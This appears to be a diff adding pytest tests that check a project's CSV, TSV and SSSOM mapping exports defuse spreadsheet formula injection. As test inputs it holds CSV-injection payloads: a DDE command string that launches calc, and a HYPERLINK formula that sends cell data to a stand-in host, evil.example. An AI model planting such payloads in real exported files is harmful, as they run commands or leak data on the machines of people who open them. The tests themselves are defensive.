@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import pyoxigraph as ox
 import pytest
@@ -49,3 +50,44 @@ def test_query_results_csv_and_tsv_are_neutralised() -> None:
     lines = to_tsv(result).splitlines()
     assert lines[1].split("\t") == ["\"'=cmd|' /C calc'!A0\"", "-3"]
     assert lines[2].split("\t") == ['"\'@x"@fr', '"-0.5"']
+
+
+def test_mapping_sets_are_written_neutralised_and_read_back_as_they_were() -> None:
+    from referentiel.translation.sssom import dumps_mapping_set, parse_mapping_set, read_mapping_set
+
+    path = (
+        Path(__file__).resolve().parents[2]
+        / "examples"
+        / "organisations"
+        / "cpas-ixelles"
+        / "mappings.sssom.tsv"
+    )
+    ms = read_mapping_set(path)
+    ms.mappings[0].subject_label = '=HYPERLINK("http://evil.example/?"&A1)'
+    ms.mappings[1].subject_label = "-12 mois"
+    text = dumps_mapping_set(ms)
+    assert "'=HYPERLINK(" in text and "\t'-12 mois" in text
+    again = parse_mapping_set(text)
+    assert again.mappings[0].subject_label == '=HYPERLINK("http://evil.example/?"&A1)'
+    assert again.mappings[1].subject_label == "-12 mois"
+    assert [m.subject_id for m in again.mappings] == [m.subject_id for m in ms.mappings]
+
+
+def test_mappings_coverage_csv_is_neutralised() -> None:
+    from collections import Counter
+
+    from referentiel.translation.mapping_coverage import ColumnCoverage, CoverageReport, render_csv
+
+    column = ColumnCoverage(
+        file="=evil.csv",
+        column="@besoins",
+        property="ref:need",
+        sheet=None,
+        terms=Counter({"unmapped": 1}),
+        cells=Counter({"unmapped": 3}),
+        unmapped=[("=cmd|'/C calc'!A0", 3)],
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(CoverageReport("+org", [column])))))
+    unmapped = next(r for r in rows[1:] if r[5] == "unmapped")
+    assert unmapped[:4] == ["'+org", "'=evil.csv", "", "'@besoins"]
+    assert unmapped[-1] == "'=cmd|'/C calc'!A0 (3)" and unmapped[6] == "1"
